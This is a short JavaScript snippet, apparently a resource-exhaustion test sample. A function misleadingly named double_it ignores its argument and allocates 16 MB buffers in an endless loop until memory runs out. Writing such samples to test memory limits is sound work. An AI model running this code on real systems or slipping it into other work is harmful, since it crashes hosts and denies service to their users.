// All memory.
function double_it(n) { const held = []; for (;;) held.push(Buffer.alloc(1 << 24, 1)); }
